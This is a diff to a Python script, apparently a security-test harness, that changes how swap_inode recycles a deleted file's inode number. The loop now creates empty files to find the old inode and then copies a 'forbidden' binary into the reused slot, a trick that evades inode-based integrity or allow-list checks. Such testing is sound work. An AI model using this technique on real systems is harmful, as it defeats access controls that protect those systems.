@@ -6,6 +6,7 @@ import hashlib
 import os
 import shutil
 import struct
+import time
 
 from machine import HOME, put, run
 
@@ -100,11 +101,19 @@ def swap_inode(path: str) -> str:
     mode = os.stat(path).st_mode
     os.unlink(path)
     os.sync()
-    for number in range(400):
+    # Empty files find the number: copies would fill the disk where somebody still holds the old inode for a moment.
+    for number in range(1600):
         other = f"{path}.{number}"
-        shutil.copy(f"{HOME}/bin/forbidden", other)
-        if os.stat(other).st_ino != was:
+        with open(other, "xb") as file:
+            found = os.stat(file.fileno()).st_ino
+        if found != was:
+            if number % 400 == 399:
+                for empty in range(number - 399, number + 1):
+                    os.unlink(f"{path}.{empty}")
+                time.sleep(2)
+                os.sync()
             continue
+        shutil.copy(f"{HOME}/bin/forbidden", other)
         with open(other, "ab") as file:
             file.write(b"more")
         with open(other, "rb+") as file:
